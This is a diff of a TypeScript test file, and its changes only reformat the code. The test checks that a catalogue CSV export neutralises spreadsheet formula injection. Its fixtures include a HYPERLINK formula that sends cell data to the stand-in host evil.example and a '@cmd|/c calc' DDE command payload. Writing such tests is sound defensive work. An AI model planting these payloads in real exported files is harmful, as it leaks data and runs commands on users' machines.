@@ -28,12 +28,12 @@ function parseCsv(text: string): string[][] {
 	for (let i = 0; i < text.length; i++) {
 		const ch = text[i];
 		if (quoted) {
-			if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+			if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++);
 			else if (ch === '"') quoted = false;
 			else cell += ch;
 		} else if (ch === '"') quoted = true;
-		else if (ch === ',') row.push(cell), (cell = '');
-		else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+		else if (ch === ',') (row.push(cell), (cell = ''));
+		else if (ch === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
 		else cell += ch;
 	}
 	return rows;
@@ -41,17 +41,31 @@ function parseCsv(text: string): string[][] {
 
 describe('the catalogue CSV export', () => {
 	it('neutralises formula-like values stored through the curator forms', async () => {
-		const chip = await createChip(world.db, world.curator, chipSchema.parse({ name: '@SUM(1+1)', maker: '+Makerish', slug: 'sum-chip' }));
+		const chip = await createChip(
+			world.db,
+			world.curator,
+			chipSchema.parse({ name: '@SUM(1+1)', maker: '+Makerish', slug: 'sum-chip' })
+		);
 		const converter = await createConverter(
 			world.db,
 			world.curator,
-			converterSchema.parse({ brand: '=HYPERLINK("http://evil.example/?x="&A1,"open")', model: '-2+3', slug: 'formula-box', outputs: ['vga'] })
+			converterSchema.parse({
+				brand: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+				model: '-2+3',
+				slug: 'formula-box',
+				outputs: ['vga']
+			})
 		);
 		// (The forms trim, so tab and carriage-return lead-ins are covered by the writer check below.)
 		await createRevision(
 			world.db,
 			world.curator,
-			revisionSchema.parse({ converterId: converter!.id, code: '=1+1', chipId: chip!.id, boardMarking: '@cmd|/c calc!A0' })
+			revisionSchema.parse({
+				converterId: converter!.id,
+				code: '=1+1',
+				chipId: chip!.id,
+				boardMarking: '@cmd|/c calc!A0'
+			})
 		);
 
 		const rows = await exportCatalogue(world.db);
